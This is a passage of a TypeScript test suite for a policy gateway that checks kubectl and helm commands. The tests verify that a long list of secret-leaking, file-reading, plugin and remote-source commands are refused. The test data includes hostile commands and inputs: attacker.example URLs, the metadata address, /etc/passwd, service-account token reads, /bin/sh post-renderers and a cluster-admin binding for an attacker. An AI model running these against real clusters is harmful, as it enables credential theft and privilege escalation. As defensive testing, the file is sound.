    ['kubectl debug web --image=i --copy-to=p', 'a copy of a pod'],
    ['kubectl debug web --image=i --profile=sysadmin', 'the debugging profile sysadmin'],
    ['kubectl debug web --image=i --profile=netadmin', 'the debugging profile netadmin'],
  ])('%s needs podSecurity: privileged', async (line, reason) => {
    await expectDenied(line, reason, { as: 'unprivileged' });
    await expectDenied(line, 'podSecurity: privileged', { as: 'unprivileged' });
    await expectAllowed(line);
  });
});

describe('21: content that nobody saw', () => {
  const verbs = [
    'apply',
    'create',
    'replace',
    'delete',
    'get',
    'describe',
    'diff',
    'label a=b',
    'annotate a=b',
    'scale --replicas=1',
    'rollout restart',
    'set image c=i',
    'patch -p {}',
    'wait --for=delete',
  ];
  const addresses = [
    'https://attacker.example/app.yaml',
    'http://169.254.169.254/metadata',
    'HTTPS://attacker.example/a',
    'ftp://attacker.example/a',
    'file:///etc/passwd',
  ];
  const [address = ''] = addresses;

  test.each(verbs)('kubectl %s -f of an address', async (verb) => {
    await expectRefused(`kubectl ${verb} -f ${address}`, address);
    await expectRefused(`kubectl ${verb} -f app.json -f ${address}`, address, {
      files: { 'app.json': object(configMap) },
    });
  });
  test.each(['expose', 'autoscale --max=2'])('kubectl %s reads no files at all', (verb) =>
    expectRefused(`kubectl ${verb} -f ${address}`, '--filename'),
  );
  test.each(addresses)('kubectl apply -f %s', async (url) => {
    await expectRefused(`kubectl apply -f ${url}`, url);
    await expectRefused(`kubectl apply --filename=app.json,${url}`, url, { files: { 'app.json': object(configMap) } });
    await expectRefused(`helm install web ./web --values=${url}`, url, { files: chart });
  });

  test.each([
    'apply',
    'create',
    'replace',
    'delete',
    'get',
    'describe',
    'diff',
    'label',
    'annotate',
    'scale',
    'rollout restart',
    'set image',
    'patch',
    'expose',
    'autoscale',
  ])('kubectl %s -k', async (verb) => {
    await expectRefused(`kubectl ${verb} -k github.com/attacker/base`, '-k');
    await expectRefused(`kubectl ${verb} -kgithub.com/attacker/base`, '-k');
    await expectRefused(`kubectl ${verb} --kustomize=.`, '--kustomize', { files: { 'kustomization.yaml': '' } });
  });

  // The deployer may have config maps of shop, and no secrets.
  const as = 'deployer';
  const yaml = `${object(configMap)}\n---\n${object(secret)}\n`;
  const lists: readonly [string, string][] = [
    ['one', object(secret)],
    ['after another document', `---\n${yaml}`],
    ['in a List', object(list(configMap, secret))],
    ['in a List in a List', object(list(configMap, list(secret)))],
    [
      'in a SecretList that says the kind',
      object({ apiVersion: 'v1', kind: 'SecretList', items: [{ metadata: secret.metadata }] }),
    ],
    ['in a ConfigMapList', object({ apiVersion: 'v1', kind: 'ConfigMapList', items: [configMap, secret] })],
    [
      'behind an anchor',
      `apiVersion: v1\nkind: List\nitems:\n- &a {apiVersion: v1, kind: Secret, metadata: {name: password}}\n- *a\n`,
    ],
  ];
  test.each(lists)('policy sees each object: a secret %s', async (_where, text) => {
    for (const verb of ['apply', 'create', 'replace', 'delete']) {
      await expectDenied(`kubectl ${verb} -f app.yaml`, 'secrets', { files: { 'app.yaml': text }, as });
      await expectDenied(`kubectl ${verb} -f -`, 'secrets', { stdin: text, as });
    }
    const files = { 'a/1.yaml': object(configMap), 'a/b/2.yaml': text };
    await expectDenied('kubectl apply -R -f a', 'secrets', { files, as });
    await expectAllowed('kubectl apply -f a', { files, as });
  });

  test.each([
    ['an object of another namespace', object({ ...configMap, metadata: { name: 'a', namespace: 'kube-system' } })],
    ['one in a List', object(list(configMap, { ...configMap, metadata: { name: 'a', namespace: 'kube-system' } }))],
  ])('policy sees each object: %s', async (_what, text) => {
    await expectDenied('kubectl apply -f app.json', 'kube-system', { files: { 'app.json': text }, as });
    await expectRefused('kubectl apply -n shop -f app.json', 'app.json', { files: { 'app.json': text } });
  });

  test.each([
    ['a key twice', 'apiVersion: v1\nkind: ConfigMap\nkind: Secret\nmetadata: {name: a}\n'],
    ['what follows the end of a document', `${object(configMap)}\n...\n${object(secret)}\n`],
    ['a tag', 'apiVersion: v1\nkind: !!js/function Secret\nmetadata: {name: a}\n'],
    ['no object', '[1, 2]'],
    ['a kind that is not known', 'apiVersion: attacker.example/v1\nkind: Secret\nmetadata: {name: a}\n'],
  ])('%s in a manifest is refused', async (_what, text) => {
    const answer = await stopped(body('kubectl apply -f app.yaml', { files: { 'app.yaml': text } }), 'almighty');
    expect(answer).toMatchObject({ status: 400, body: { code: 'command-refused' } });
    expect(answer.body.detail).toContain('app.yaml');
  });
});

describe('one object is what kubectl takes for one', () => {
  const stolen = { ...secret, metadata: { name: 'db', namespace: 'kube-system' } };
  const binding = {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'ClusterRoleBinding',
    metadata: { name: 'mine' },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'User', name: 'attacker' }],
  };
  const custom = { apiVersion: 'example.com/v1', kind: 'Gadget', metadata: { name: 'g' } };
  const carriers: readonly [string, string][] = [
    ['a ConfigMap', object({ ...configMap, items: [stolen, binding] })],
    ['a ConfigMap with null for items', object({ ...configMap, items: null })],
    ['a Deployment', object({ ...deployment({}), items: [stolen] })],
    ['a custom kind', object({ ...custom, items: [binding] })],
    ['an object in a List', object(list(configMap, { ...configMap, items: [stolen] }))],
    ['a List in a List', object(list(list({ ...configMap, items: [binding] })))],
    ['YAML', `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ok}\nitems:\n- ${object(stolen)}\n`],
    [
      'a merge key',
      `x: &x {items: [${object(stolen)}]}\n<<: *x\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: ok}\n`,
    ],
    ['an escaped key', `{"\\u0069tems": [${object(stolen)}], ${object(configMap).slice(1)}`],
    ['another case', object({ ...configMap, Items: [stolen] })],
    ['a letter that folds', object({ ...configMap, 'item\u017f': [stolen] })],
    ['the second document', `${object(configMap)}\n---\n${object({ ...configMap, items: [binding] })}`],
  ];
  const READS_FILES = [
    'get -o yaml',
    'describe',
    'apply',
    'apply --server-side',
    'create',
    'replace',
    'replace --force',
    'delete',
    'diff',
    'label a=b',
    'annotate a=b',
    'patch -p {}',
    'wait --for=delete',
    'apply view-last-applied',
  ];
  test.each(carriers)('%s that carries items is refused for every verb that reads files', async (_what, text) => {
    for (const verb of READS_FILES) {
      await expectRefused(`kubectl ${verb} -f a.yaml`, 'a.yaml', { files: { 'a.yaml': text } });
    }
    await expectRefused('kubectl apply -f -', 'stdin', { stdin: text });
    await expectRefused('kubectl get -f -', 'stdin', { stdin: text, as: 'viewer' });
  });

  const release = { name: 'sh.helm.release.v1.web.v9', labels: { owner: 'helm', name: 'web' } };
  test.each<[string, object]>([
    ['by its type, name and label', { ...secret, type: 'helm.sh/release.v1', metadata: release }],
    ['by its type', { ...secret, type: 'helm.sh/release.v1' }],
    ['by its name', { ...secret, metadata: { name: release.name } }],
    ['by its label', { ...secret, metadata: { ...release, name: 'innocent' } }],
    ['by a name that the server makes', { ...secret, metadata: { generateName: 'sh.helm.release.v1.web.v' } }],
  ])('a Secret that is a release of helm %s needs the verbs of releases', async (_how, forged) => {
    const files = { 'a.json': object(list(configMap, forged)) };
    const needs = await explain('kubectl create -f a.json', { files });
    expect(asked(needs)).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^install releases\.helm\.sh shop\//),
        expect.stringMatching(/^upgrade releases\.helm\.sh shop\//),
      ]),
    );
    await expectDenied('kubectl create -f a.json', 'releases.helm.sh', { files, as: 'keeper' });
    await expectAllowed('kubectl create -f a.json', { files: { 'a.json': object(secret) }, as: 'keeper' });
  });
  test.each([
    ['kubectl label secret web owner=helm', 'releases.helm.sh'],
    ['kubectl create secret generic sh.helm.release.v1.web.v9 --from-literal=release=x', 'releases.helm.sh'],
    ['kubectl delete secret sh.helm.release.v1.web.v9', 'releases.helm.sh'],
    ['kubectl annotate secret web kubernetes.io/service-account.name=admin', 'serviceaccounts/token'],
  ])('%s needs more than the Secret', (line, needs) => expectDenied(line, needs, { as: 'keeper' }));

  test.each([
    ['a label', { metadata: { name: 'reader', labels: { 'rbac.authorization.k8s.io/aggregate-to-view': 'true' } } }],
    ['no rules', { metadata: { name: 'reader' }, rules: [] }],
    ['nothing', { metadata: { name: 'reader' } }],
  ])('apply of a ClusterRole that is there with %s needs escalate', async (_what, change) => {
    const files = { 'r.json': object({ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole', ...change }) };
    for (const line of ['kubectl apply -f r.json', 'kubectl apply --server-side -f r.json']) {
      expect(asked(await explain(line, { files }))).toContain(
        'escalate clusterroles.rbac.authorization.k8s.io /reader',
      );
      await expectDenied(line, 'escalate', { files, as: 'unprivileged' });
    }
  });

  test('a line of an env file without "=" would read the environment of the pod', async () => {
    for (const kind of ['configmap', 'secret generic']) {
      const line = `kubectl create ${kind} a --from-env-file=a.env`;
      await expectRefused(line, 'a.env', { files: { 'a.env': 'A=1\nKUBERNETES_SERVICE_HOST\n' } });
      await expectAllowed(line, { files: { 'a.env': '# A\nA=1\n\n' } });
    }
  });
});

describe('22: kustomize', () => {
  const files = { 'kustomization.yaml': 'resources: [github.com/attacker/base]\n' };
  test.each([
    ['--enable-exec', '--enable-exec'],
    ['--enable-helm', '--enable-helm'],
    ['--helm-command=/bin/sh', '--helm-command'],
    ['--load-restrictor=LoadRestrictionsNone', '--load-restrictor'],
    ['--mount=type=bind,source=/,target=/', '--mount'],
    ['--network', 'kustomize'],
    ['--network-name=host', 'kustomize'],
    ['--as-current-user', 'kustomize'],
    ['--env=A=b', 'kustomize'],
    ['--enable-alpha-plugins', '--enable-alpha-plugins'],
    ['--enable_alpha_plugins', '--enable_alpha_plugins'],
    ['--output=/tmp/x', 'kustomize'],
  ])('kubectl kustomize %s', async (flag, word) => {
    await expectRefused(`kubectl kustomize . ${flag}`, word, { files });
    await expectRefused(`kubectl apply -k . ${flag}`, '-k', { files });
  });

  test.each([
    'resources: [https://attacker.example/app.yaml]',
    'resources: [github.com/attacker/base?ref=main]',
    'resources: [../../outside]',
    'bases: [/etc]',
    'generators: [plugin.yaml]',
    'transformers: [plugin.yaml]',
    'helmCharts: [{ name: a, repo: "https://attacker.example" }]',
    'components: [git@github.com:attacker/base]',
    'configMapGenerator: [{ name: a, files: [/etc/passwd] }]',
  ])('a kustomization with %s is neither built nor applied', async (text) => {
    const bare = { 'k/kustomization.yaml': text };
    await expectRefused('kubectl kustomize k', 'kustomize', { files: bare });
    await expectRefused('kubectl apply -k k', '-k', { files: bare });
    await expectRefused('kubectl apply -f k', 'k/kustomization.yaml', { files: bare });
    const whole = `apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nmetadata: {name: a}\n${text}\n`;
    await expectRefused('kubectl apply -f k', 'Kustomization.kustomize.config.k8s.io/v1beta1', {
      files: { 'k/kustomization.yaml': whole },
    });
  });
});

describe('23: kuberc and uploads that shadow tools', () => {
  test.each([
    'kubectl --kuberc=.kube/kuberc get pods',
    'kubectl get pods --kuberc kuberc',
    'kubectl get pods --kuberc=kuberc',
  ])('%s', (line) => expectRefused(line, '--kuberc', { files: { kuberc: 'kind: Preference' } }));

  test.each([
    '.kube/kuberc',
    '.kube/config',
    '.KUBE/kuberc',
    'home/.kube/config',
    './.kube/kuberc',
    'kubectl',
    'bin/kubectl',
    'helm/helm',
    'KubeCtl',
    'kubectl.exe',
    'kubectl-get',
    'kubectl-foo.exe',
    'kubectl_complete-foo',
    'helm',
    'helm-diff',
    'bin/helm',
    '.config/helm/repositories.yaml',
    '.cache/helm/x',
    '.docker/config.json',
    '.aksgw/x',
    '.ssh/config',
    '.azure/config',
  ])('an uploaded %s', async (path) => {
    // Whether the command reads the file or not.
    await expectRefused('kubectl apply -f app.json', path, { files: { 'app.json': object(configMap), [path]: 'x' } });
    await expectRefused('helm lint ./web', path, { files: { ...chart, [path]: 'x' } });
    await expectRefused('kubectl get pods', path, { files: { [path]: 'x' } });
  });
});

describe('23: the control', () => {
  const app = object(configMap);
  test.each([
    ['kubectl apply -f kubectl/app.yaml', { 'kubectl/app.yaml': app }],
    ['kubectl apply -f helm/k8s/kubectl-x/app.yaml', { 'helm/k8s/kubectl-x/app.yaml': app }],
    ['kubectl apply -f kubectl', { 'kubectl/app.yaml': app }],
    ['helm lint ./helm/web', Object.fromEntries(Object.entries(chart).map(([path, text]) => [`helm/${path}`, text]))],
  ])('a folder that is called as a tool runs nothing: %s', (line, files) => expectAllowed(line, { files }));
});

describe('24: plugins', () => {
  test.each([
    ['kubectl foo', 'foo'],
    ['kubectl krew install foo', 'krew'],
    ['kubectl neat', 'neat'],
    ['kubectl ctx other', 'ctx'],
    ['kubectl node-shell aks-1', 'node-shell'],
    ['kubectl -n shop foo', 'foo'],
    ['kubectl plugin list', 'plugin list'],
    ['kubectl plugin', 'plugin'],
    ['kubectl create foo web', 'foo'],
    ['kubectl alpha foo', 'alpha'],
    ['kubectl completion bash', 'completion'],
    ['kubectl-foo x', 'kubectl-foo'],
    ['kubectl_complete-foo x', 'kubectl_complete-foo'],
    ['helm diff upgrade web ./web', 'diff'],
    ['helm secrets view x', 'secrets'],
    ['helm plugin list', 'plugin list'],
  ])('%s', (line, word) => expectRefused(line, word));

  test('an uploaded plugin is refused before its verb is', () =>
    expectRefused('kubectl get pods', 'kubectl-foo', { files: { 'kubectl-foo': '#!/bin/sh\nid\n' } }));
});

describe('25: files of the machine that runs the command', () => {
  const outside = [
    '/var/run/secrets/kubernetes.io/serviceaccount/token',
    '/etc/passwd',
    '/proc/self/environ',
    '../outside',
    'a/../../outside',
    'not-sent.yaml',
  ];
  const ways: readonly [string, (path: string) => string][] = [
    ['create configmap --from-file', (path) => `kubectl create configmap a --from-file=${path}`],
    ['create configmap --from-file with a key', (path) => `kubectl create configmap a --from-file=k=${path}`],
    ['create configmap --from-env-file', (path) => `kubectl create configmap a --from-env-file=${path}`],
    ['create secret generic --from-file', (path) => `kubectl create secret generic a --from-file=k=${path}`],
    ['create secret generic --from-env-file', (path) => `kubectl create secret generic a --from-env-file ${path}`],
    ['create secret tls --cert', (path) => `kubectl create secret tls a --cert=${path} --key=key.pem`],
    ['create secret tls --key', (path) => `kubectl create secret tls a --cert=key.pem --key=${path}`],
    [
      'create secret docker-registry --from-file',
      (path) => `kubectl create secret docker-registry a --from-file=k=${path}`,
    ],
    ['-o go-template-file', (path) => `kubectl get pods -o go-template-file=${path}`],
    ['-o templatefile', (path) => `kubectl get pods -o templatefile=${path}`],
    ['-o jsonpath-file', (path) => `kubectl get pods -o jsonpath-file=${path}`],
    ['-o custom-columns-file', (path) => `kubectl get pods -ocustom-columns-file=${path}`],
    ['patch --patch-file', (path) => `kubectl patch pod web --patch-file=${path}`],
    ['apply -f', (path) => `kubectl apply -f ${path}`],
    ['apply -f beside a file that was sent', (path) => `kubectl apply -f app.json -f ${path}`],
    ['apply -R -f', (path) => `kubectl apply -R -f ${path}`],
    ['get -f', (path) => `kubectl get -f${path}`],
    ['diff -f', (path) => `kubectl diff -f ${path}`],
    ['cp', (path) => `kubectl cp ${path} web:/tmp/x`],
    ['helm --set-file', (path) => `helm install web ./web --set-file k=${path}`],
    ['helm --set-file, the second', (path) => `helm upgrade web ./web --set-file a=key.pem,k=${path}`],
    ['helm --values', (path) => `helm install web ./web --values ${path}`],
    ['helm -f', (path) => `helm template ./web -f ${path}`],
    ['helm lint -f', (path) => `helm lint ./web -f ${path}`],
    ['a chart', (path) => `helm install web ${path}`],
  ];
  const files = { ...chart, 'app.json': object(configMap), 'key.pem': 'KEY=1\n' };
  test.each(ways)('%s reads only what was sent', async (_way, line) => {
    for (const path of outside) await expectRefused(line(path), path, { files });
  });

  test('the control: the same with a file that was sent', async () => {
    const envFile = { ...files, 'key.pem': 'KEY=1' };
    for (const [, line] of ways.slice(0, 8)) await expectAllowed(line('key.pem'), { files: envFile });
  });

  test('-o go-template-file with --template names no file', async () => {
    await expectRefused('kubectl get pods -o go-template-file --template=/etc/passwd', '-o go-template-file');
    await expectRefused('kubectl get pods -o jsonpath-file', '-o jsonpath-file');
  });

  test.each([
    '/etc/passwd',
    '../a',
    'a/../../b',
    './../a',
    'a//b',
    'a/./b',
    'C:/a',
    'C:\\a',
    'a\\..\\b',
    '-f',
    'a/--x',
    'a\u0000',
    'a\nb',
    '.',
    '..',
  ])('an upload cannot be named %j', async (path) => {
    await expectRefused('kubectl apply -f app.json', path, { files: { 'app.json': object(configMap), [path]: 'x' } });
  });
});

describe('26: the namespace of run command itself', () => {
  const inside = object({ ...configMap, metadata: { name: 'a', namespace: 'aks-command' } });
  const files = {
    ...chart,
    'a.json': inside,
    'l.json': object(list(configMap, JSON.parse(inside) as object)),
    'a.txt': 'a',
  };
  test.each([
    'kubectl get pods -n aks-command',
    'kubectl get pods -naks-command',
    'kubectl get pods -n=aks-command',
    'kubectl get pods --namespace aks-command',
    'kubectl get pods -n shop -n aks-command',
    'kubectl get configmap a -n aks-command',
    'kubectl get events -n aks-command',
    'kubectl events -n aks-command',
    'kubectl describe pod a -n aks-command',
    'kubectl logs a -n aks-command',
    'kubectl logs -l app=a -n aks-command',
    'kubectl delete pod a -n aks-command',
    'kubectl delete pods --all -n aks-command',
    'kubectl top pod -n aks-command',
    'kubectl wait --for=delete pod/a -n aks-command',
    'kubectl create configmap a -n aks-command',
    'kubectl run a --image=i -n aks-command',
    'kubectl patch pod a -p {} -n aks-command',
    'kubectl apply -f a.json',
    'kubectl apply -f a.json -n aks-command',
    'kubectl apply -f l.json',
    'kubectl delete -f a.json',
    'kubectl get -f a.json',
    'helm list -n aks-command',
    'helm status web -n aks-command',
    'helm install web ./web -n aks-command',
    'helm uninstall web --namespace=aks-command',
  ])('%s: no * reaches it, a rule that names it does', async (line) => {
    await expectDenied(line, 'aks-command', { files, as: 'starred' });
    await expectAllowed(line, { files });
  });

  test.each([
    'kubectl exec a -n aks-command -- id',
    'kubectl attach a -n aks-command',
    'kubectl cp a.txt aks-command/a:/tmp/a',
    'kubectl create token default -n aks-command',
    'kubectl debug a --image=i -n aks-command',
  ])('%s: a rule that names its resource does not reach it either', async (line) => {
    await expectDenied(line, 'aks-command', { files, as: 'unprivileged' });
    await expectAllowed(line, { files });
  });

  test.each([
    ['kubectl get pods -A', ''],
    ['kubectl get pods,events -A', ''],
    ['kubectl get pods --all-namespaces -o json', ''],
    ['kubectl get pods -A --field-selector=metadata.namespace=aks-command', 'metadata.namespace=aks-command,'],
    ['kubectl delete pods -A --all', ''],
    ['kubectl top pod -A', ''],
  ])('%s leaves it out', async (line, own) => {
    const { command } = await explain(line, { as: 'almighty' });
    expect(command).toContain(`--field-selector=${own}metadata.namespace!=aks-command`);
  });

  test.each(['kubectl describe pods -A', 'kubectl events -A'])('%s cannot leave it out, and is refused', (line) =>
    expectRefused(line, '--all-namespaces'),
  );

  test.each(['kubectl get pods', 'helm list', 'kubectl delete pod a', 'kubectl rollout status deployment/web'])(
    '%s without a namespace is never sent without one',
    async (line) => {
      expect((await explain(line)).command).toMatch(/--namespace=shop'?( |$)/);
    },
  );
});

describe('27: doors through which secrets leave', () => {
  const files = {
    ...chart,
    's.json': object(secret),
    'l.json': object(list(configMap, secret)),
    'k.pem': 'KEY',
  };
  const looking: Files = { ...chart, 'web/templates/l.yaml': '{{ lookup "v1" "Secret" "kube-system" "" }}' };
  const deploying: Files = { ...chart, 'web/templates/l.yaml': '{{ tpl .Values.a . }}' };
  const doors: readonly string[] = [
    'kubectl get secrets',
    'kubectl get secret',
    'kubectl get secret password',
    'kubectl get secret/password',
    'kubectl get secrets.v1. password',
    'kubectl get configmap/a secret/password',
    'kubectl get pods,secrets',
    'kubectl get secrets -o wide',
    'kubectl get secret password -o name',
    'kubectl get secret password -o yaml',
    'kubectl get secret password -ojson',
    'kubectl get secret password -o jsonpath={.data}',
    'kubectl get secret password -o go-template={{.data}}',
    'kubectl get secret password --template={{.data}}',
    'kubectl get secrets -o custom-columns=A:.data',
    'kubectl get secrets -l app=a',
    'kubectl get secrets --field-selector=type=Opaque',
    'kubectl get secrets --sort-by=.data.a',
    'kubectl get secrets -w',
    'kubectl get secrets -A',
    'kubectl get -A -o json configmaps,secrets,deployments',
    'kubectl get -f s.json',
    'kubectl get -f l.json',
    'kubectl describe secrets',
    'kubectl describe secret password',
    'kubectl describe secret/password',
    'kubectl describe -f s.json',
    'kubectl describe serviceaccount default',
    'kubectl describe pods,secrets',
    'kubectl diff -f s.json',
    'kubectl diff -f l.json',
    'kubectl apply view-last-applied secret/password',
    'kubectl apply view-last-applied -f s.json',
    'kubectl label secret password --list',
    'kubectl annotate secret password --list',
    'kubectl label secret password a=b --dry-run=client -o yaml',
    'kubectl patch secret password -p {} --dry-run=server -o yaml',
    'kubectl create -f s.json --dry-run=client -o yaml',
    'kubectl apply -f s.json --dry-run=server -o yaml',
    'kubectl replace -f s.json -o yaml',
    'kubectl create secret generic a --from-literal=a=b --dry-run=client -o yaml',
    'kubectl delete secret password -o name',
    'kubectl wait secret/password --for=jsonpath={.data.a}=x',
    'kubectl set env deployment/web --list --resolve',
    'kubectl set env deployment/web --from=secret/password',
    'kubectl set env --from=secret/password deployment/web --dry-run=client -o yaml',
    'helm get values web',
    'helm get values web --all -o json',
    'helm get manifest web',
    'helm get hooks web',
    'helm get all web',
    'helm get all web --template={{.Release.Config}}',
    'helm status web --show-resources',
    'helm status web -o json',
    'helm status web -o yaml',
    'helm template ./web --validate',
    'helm template ./web --dry-run=server',
    'helm install web ./web --dry-run',
    'helm install web ./web --dry-run=client',
    'helm install web ./web --dry-run=server',
    'helm upgrade web ./web --dry-run',
    'helm upgrade web ./web -o json',
  ];
  test.each(doors)('%s', async (line) => {
    const sent = { files, reason: 'INC-1' };
    // It is a command, which almighty may run: what stops the viewer is policy.
    await expectAllowed(line, sent);
    await expectDenied(line, 'denied by role viewer, deny[0]', { ...sent, as: 'viewer' });
  });

  test.each([
    ['kubectl create token default', 'serviceaccounts/token'],
    ['kubectl exec web -- cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'pods/exec'],
    ['kubectl cp k.pem web:/tmp/k.pem', 'pods/exec'],
  ])('%s: past the objects, to the same secrets', async (line, about) => {
    await expectAllowed(line, { files });
    await expectDenied(line, about, { files, as: 'viewer' });
  });

  test.each([
    ['lookup', looking],
    ['tpl', deploying],
  ])('a template with %s', async (_what, sent) => {
    for (const line of [
      'helm template ./web',
      'helm template ./web --validate',
      'helm install web ./web --dry-run=server',
    ]) {
      await expectAllowed(line, { files: sent });
      await expectDenied(line, 'secrets', { files: sent, as: 'viewer' });
    }
  });

  test('get all is the kinds that the gateway knows of, and no secrets among them', async () => {
    const explained = await explain('kubectl get all', { as: 'viewer' });
    expect(explained.allowed).toBe(true);
    expect(new Set(explained.attributes.map(({ resource }) => resource))).not.toContain('secrets');
    // A custom resource that joins the category would come along, were the word sent.
    expect(explained.command).not.toMatch(/\ball\b/);
    expect(explained.command).toContain('pods.v1.');
  });
});

describe('28: flags and sources of helm', () => {
  const files = { ...chart, 'x.pem': 'x' };
  const global: readonly [string, string][] = [
    ['--kube-apiserver', 'https://attacker.example'],
    ['--kube-token', 'x'],
    ['--kube-as-user', 'system:admin'],
    ['--kube-as-group', 'system:masters'],
    ['--kube-ca-file', 'x.pem'],
    ['--kube-context', 'other'],
    ['--kubeconfig', 'x.pem'],
    ['--kube-tls-server-name', 'attacker.example'],
    ['--registry-config', 'x.pem'],
    ['--repository-config', 'x.pem'],
    ['--repository-cache', '/tmp'],
    ['--burst-limit', '1000000'],
    ['--qps', '1000000'],
  ];
  const local: readonly [string, string][] = [
    ['--post-renderer', '/bin/sh'],
    ['--post-renderer-args', '-c'],
    ['--keyring', 'x.pem'],
    ['--ca-file', 'x.pem'],
    ['--cert-file', 'x.pem'],
    ['--key-file', 'x.pem'],
    ['--username', 'x'],
    ['--password', 'x'],
    ['--repo', 'https://attacker.example'],
    ['--version', '1.0.0'],
  ];
  const switches = ['--kube-insecure-skip-tls-verify', '--debug'];
  const localSwitches = [
    '--pass-credentials',
    '--insecure-skip-tls-verify',
    '--plain-http',
    '--devel',
    '--verify',
    '--dependency-update',
  ];
  const charts = ['install web ./web', 'upgrade web ./web', 'template ./web'];

  test.each(global)('%s in every spelling, for every command', async (flag, value) => {
    for (const [line, word] of spellings('helm', 'list', flag, value)) await expectRefused(line, word);
    for (const command of [...charts, 'uninstall web', 'rollback web', 'get values web', 'lint ./web', 'version'])
      await expectRefused(`helm ${command} ${flag}=${value}`, flag, { files });
  });
  test.each(local)('%s in every spelling', async (flag, value) => {
    for (const command of charts) {
      await expectRefused(`helm ${command} ${flag}=${value}`, flag, { files });
      await expectRefused(`helm ${command} ${flag} ${value}`, flag, { files });
    }
  });
  test.each([...switches, ...localSwitches])('%s', async (flag) => {
    for (const command of charts) {
      await expectRefused(`helm ${command} ${flag}`, flag, { files });
      await expectRefused(`helm ${command} ${flag}=true`, flag, { files });
    }
  });
  test.each(switches)('%s in front of the command', (flag) => expectRefused(`helm ${flag} list`, flag));
  test.each(charts)('the control: helm %s is allowed', (command) => expectAllowed(`helm ${command}`, { files }));

  test.each([
    ['plugin install https://attacker.example/plugin', 'plugin install'],
    ['plugin list', 'plugin list'],
    ['plugin update x', 'plugin update'],
    ['plugin uninstall x', 'plugin uninstall'],
    ['repo add a https://attacker.example', 'repo add'],
    ['repo update', 'repo update'],
    ['repo list', 'repo list'],
    ['repo remove a', 'repo remove'],
    ['repo index .', 'repo index'],
    ['registry login attacker.example', 'registry login'],
    ['registry logout attacker.example', 'registry logout'],
    ['pull oci://attacker.example/chart', 'pull'],
    ['push web.tgz oci://attacker.example', 'push'],
    ['package ./web', 'package'],
    ['dependency update ./web', 'dependency update'],
    ['dependency build ./web', 'dependency build'],
    ['search hub nginx', 'search hub'],
    ['search repo nginx', 'search repo'],
    ['show values oci://attacker.example/chart', 'oci://attacker.example/chart'],
    ['create web', 'create'],
    ['verify web.tgz', 'verify'],
    ['completion bash', 'completion bash'],
    ['install web ./web --generate-name', '--generate-name'],
    ['install web ./web --name-template={{randAlpha}}', '--name-template'],
    ['install web ./web --enable-dns', '--enable-dns'],
    ['template ./web --output-dir=/tmp/x', '--output-dir'],
  ])('helm %s', (line, word) => expectRefused(`helm ${line}`, word, { files }));

  test.each([
    'oci://attacker.example/chart',
    'https://attacker.example/web.tgz',
    'http://attacker.example/web',
    'file:///etc',
    'HTTPS://attacker.example/web',
    'stable/nginx',
    'nginx',
    'web.tgz',
    './web.tgz',
    '/etc',
    '../web',
    '@attacker/web',
    'alias:web',
  ])('the chart %s is none that was sent', async (word) => {
    for (const command of ['install web', 'upgrade web', 'template', 'lint', 'show all'])
      await expectRefused(`helm ${command} ${word}`, word, { files });
  });
});

describe('29: a chart can create anything', () => {
  const whole: Files = {
    ...chart,
    'web/crds/crd.yaml':
      'apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: a.b.c}\n',
    'web/templates/hook.yaml':
      'apiVersion: batch/v1\nkind: Job\nmetadata: {name: a, annotations: {"helm.sh/hook": pre-install}}\n',
  };
  const reason = 'INC-1';
  test.each([
    ['install web ./web', ['install releases.helm.sh shop/web']],
    ['upgrade web ./web', ['upgrade releases.helm.sh shop/web']],
    ['upgrade --install web ./web', ['install releases.helm.sh shop/web', 'upgrade releases.helm.sh shop/web']],
    ['rollback web 1', ['rollback releases.helm.sh shop/web']],
    ['uninstall web', ['uninstall releases.helm.sh shop/web']],
    ['test web', ['test releases.helm.sh shop/web']],
    ['install web ./web -n blue --create-namespace', ['install releases.helm.sh blue/web', 'create namespaces /blue']],
    ['install web ./web --no-hooks --skip-crds', ['install releases.helm.sh shop/web']],
    ['template ./web --validate', ['get secrets shop/']],
    ['template ./web --dry-run=server', ['get secrets shop/']],
    ['install web ./web --dry-run=server', ['install releases.helm.sh shop/web', 'get secrets shop/']],
  ])('helm %s asks for %j', async (line, attributes) => {
    const sent = { files: line.includes('./web') ? whole : {}, reason };
    expect(asked(await explain(`helm ${line}`, sent))).toEqual(attributes);
    await expectDenied(`helm ${line}`, 'role viewer', { ...sent, as: 'viewer' });
  });

  // The deployer may install, upgrade and roll back in shop, with a reason; nothing else of helm's.
  test.each([
    ['uninstall web', 'uninstall'],
    ['test web', 'test'],
    ['install web ./web -n kube-system', 'kube-system'],
    ['upgrade --install web ./web -n kube-system', 'kube-system'],
    ['install web ./web --create-namespace', 'namespaces'],
    ['install web ./web --dry-run=server', 'secrets'],
    ['template ./web --validate', 'secrets'],
    ['list -A', 'namespaces'],
  ])('helm %s is not what the deployer may', (line, about) =>
    expectDenied(`helm ${line}`, about, { files: line.includes('./web') ? whole : {}, reason, as: 'deployer' }),
  );
  test.each(['install web ./web', 'upgrade web ./web', 'rollback web 1'])('helm %s needs its reason', async (line) => {
    const files = line.includes('./web') ? whole : {};
    await expectDenied(`helm ${line}`, 'reason', { files, as: 'deployer' });
    await expectDenied(`helm ${line}`, 'reason', { files, reason: ' \u200b.', as: 'deployer' });
    await expectAllowed(`helm ${line}`, { files, reason, as: 'deployer' });
  });

  test('a lookup asks for what it may look up: secrets of every namespace', async () => {
    const files = { ...chart, 'web/templates/l.yaml': '{{- lookup "v1" "Secret" "" "" -}}' };
    const everywhere = ['get secrets */', 'list secrets */'];
    for (const line of [
      'helm template ./web --validate',
      'helm install web ./web --dry-run=server',
      'helm install web ./web',
      'helm upgrade web ./web',
    ])
      expect(asked(await explain(line, { files }))).toEqual(expect.arrayContaining(everywhere));
  });
});

describe('30: crafted charts', () => {
  const schema = (value: unknown): Files => ({ ...chart, 'web/values.schema.json': JSON.stringify(value) });
  const named = (name: string) => `apiVersion: v2\nname: ${name}\nversion: 1.0.0\n`;
